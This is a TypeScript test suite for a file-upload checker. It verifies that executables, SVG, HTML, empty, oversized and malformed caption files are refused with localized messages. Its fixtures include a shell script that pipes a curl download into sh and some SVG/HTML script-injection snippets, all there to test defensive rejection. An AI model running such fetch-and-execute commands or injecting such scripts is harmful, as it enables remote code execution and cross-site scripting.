import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { tinyGif, tinyJpeg, tinyPng } from "../campaigns/graphics/fixtures.test-support.js";
import { LOCALES, translator } from "../i18n/index.js";
import { checkFile, type Refusal, refusalMessage } from "./files.check.js";
import type { FileKind } from "./files.sniff.js";

const LIBRARY = { accept: ["pdf", "png", "jpeg", "vtt"] as FileKind[], maxBytes: 1024 * 1024 };
const [en, es, zh] = LOCALES.map(
  (locale) => (refusal: Refusal) => refusalMessage(translator(locale), locale, refusal),
);
const say = (bytes: Buffer, rules = LIBRARY) => {
  const checked = checkFile(bytes, rules);
  assert.equal(checked.ok, false, "the file is refused");
  if (checked.ok) throw new Error("unreachable");
  return { status: checked.status, reason: checked.refusal.reason, en: en?.(checked.refusal) };
};

const pdf = Buffer.from("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n");

const EXECUTABLES: [string, Buffer][] = [
  ["ELF", Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(64)])],
  ["PE", Buffer.concat([Buffer.from("MZ\x90\x00", "latin1"), Buffer.alloc(64)])],
  ["Mach-O", Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), Buffer.alloc(64)])],
  ["Mach-O universal", Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe]), Buffer.alloc(64)])],
  ["a shell script", Buffer.from("#!/bin/sh\ncurl http://example.org/x | sh\n")],
];

describe("checkFile", () => {
  it("takes each kind by its bytes, naming it by what it is", () => {
    const checked = checkFile(tinyPng(3, 2), LIBRARY);
    assert.deepEqual(checked, {
      ok: true,
      kind: "png",
      mediaType: "image/png",
      extension: "png",
      size: tinyPng(3, 2).length,
      image: { kind: "png", width: 3, height: 2 },
    });
    const jpeg = checkFile(tinyJpeg(), LIBRARY);
    assert.equal(
      jpeg.ok && `${jpeg.mediaType} ${jpeg.image?.width}×${jpeg.image?.height}`,
      "image/jpeg 16×8",
    );
    const doc = checkFile(pdf, LIBRARY);
    assert.equal(
      doc.ok && `${doc.kind} ${doc.mediaType} .${doc.extension}`,
      "pdf application/pdf .pdf",
    );
    const vtt = checkFile(Buffer.from("\ufeffWEBVTT\n\n00:01.000 --> 00:02.000\nHola\n"), LIBRARY);
    assert.equal(vtt.ok && vtt.mediaType, "text/vtt");
    const gif = checkFile(tinyGif(), { accept: ["gif"], maxBytes: 1000 });
    assert.equal(gif.ok && gif.mediaType, "image/gif");
  });

  it("takes plain text or Markdown only where asked", () => {
    const notes = Buffer.from("# Talking points\n\nFamilies belong together. — 家庭应该团聚\n");
    assert.equal(say(notes).reason, "type");
    const md = checkFile(notes, { accept: ["markdown"], maxBytes: 1000 });
    assert.equal(md.ok && md.mediaType, "text/markdown");
    const txt = checkFile(notes, { accept: ["text"], maxBytes: 1000 });
    assert.equal(txt.ok && txt.mediaType, "text/plain");
    const binary = Buffer.from([0x41, 0x00, 0x42]);
    assert.equal(checkFile(binary, { accept: ["text"], maxBytes: 1000 }).ok, false);
    const latin1 = Buffer.from("café", "latin1");
    assert.equal(checkFile(latin1, { accept: ["text"], maxBytes: 1000 }).ok, false);
  });

  for (const [name, bytes] of EXECUTABLES) {
    it(`refuses ${name} renamed as anything (415), saying it is a program`, () => {
      const refused = say(bytes, { accept: ["pdf", "text"], maxBytes: 1000 });
      assert.equal(refused.status, 415);
      assert.equal(refused.reason, "executable");
      assert.equal(
        refused.en,
        "This file is a program, whatever its name says, and programs cannot be uploaded. Choose one of these instead: PDF or plain text.",
      );
    });
  }

  it("refuses SVG with or without script, XML prolog or not, even where text is taken", () => {
    const plain = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>',
    );
    const scripted = Buffer.from(
      '<?xml version="1.0"?>\n<!DOCTYPE svg>\n<!-- logo -->\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
    );
    for (const svg of [plain, scripted]) {
      const refused = say(svg, { accept: ["png", "text"], maxBytes: 1000 });
      assert.equal(refused.reason, "svg");
      assert.equal(refused.status, 415);
    }
    const refusal = { reason: "svg", accept: ["png", "jpeg"] } as const;
    assert.equal(
      en?.(refusal),
      "This file is an SVG image. SVG cannot be uploaded, because it can carry scripts that would run for the people who open it. Save it as a PNG, or choose one of these: PNG image or JPEG image.",
    );
    assert.match(
      es?.(refusal) ?? "",
      /^Este archivo es una imagen SVG\..*imagen PNG o imagen JPEG\.$/,
    );
    assert.match(zh?.(refusal) ?? "", /^此文件是 SVG 图片。.*PNG 图片或JPEG 图片。$/);
  });

  it("refuses HTML however it opens, even where text is taken", () => {
    for (const page of [
      "<!DOCTYPE html><p>x",
      "  \n<html lang=en>",
      "<script>alert(1)</script>",
      "<IFRAME src=x>",
      "<a href=x>hi</a>",
    ]) {
      assert.equal(
        say(Buffer.from(page), { accept: ["text"], maxBytes: 1000 }).reason,
        "html",
        page,
      );
    }
    assert.equal(
      checkFile(Buffer.from("<abbr>not a tag HTML sniffing knows</abbr>"), {
        accept: ["text"],
        maxBytes: 1000,
      }).ok,
      true,
    );
  });

  it("refuses an empty file and one over the use's limit (413), in every language", () => {
    const empty = say(Buffer.alloc(0));
    assert.deepEqual(
      [empty.status, empty.en],
      [422, "This file is empty. Choose the file again, or another one."],
    );
    const big = Buffer.concat([pdf, Buffer.alloc(1536 * 1024)]);
    const refused = checkFile(big, LIBRARY);
    assert.equal(refused.ok || refused.status, 413);
    if (refused.ok) return;
    assert.equal(
      en?.(refused.refusal),
      "This file is 1.5 MB; the limit here is 1 MB. Choose a smaller file.",
    );
    assert.equal(
      es?.(refused.refusal),
      "Este archivo ocupa 1.5 MB; el límite aquí es de 1 MB. Elija un archivo más pequeño.",
    );
    assert.equal(zh?.(refused.refusal), "此文件大小为 1.5 MB，此处上限为 1 MB。请选择较小的文件。");
  });

  it("refuses a kind the use does not take, listing what it takes", () => {
    const refused = say(tinyGif());
    assert.deepEqual([refused.status, refused.reason], [415, "type"]);
    assert.equal(
      refused.en,
      "This file is not one of the kinds taken here (PDF, PNG image, JPEG image, or WebVTT captions), whatever its name says. Choose a file in one of those formats.",
    );
    assert.equal(say(Buffer.from([0x00, 0x01, 0x02, 0xff])).reason, "type");
  });

  it("refuses invalid captions with the line at fault (422)", () => {
    const vtt =
      "WEBVTT\n\n00:00:01.000 --> 00:00:02.000\nOne\n\n00:00:05.000 --> 00:00:03.000\nTwo\n";
    const refused = say(Buffer.from(vtt));
    assert.deepEqual([refused.status, refused.reason], [422, "captions"]);
    assert.equal(refused.en, "Line 6: a cue's end time comes before its start, or is the same.");
  });
});
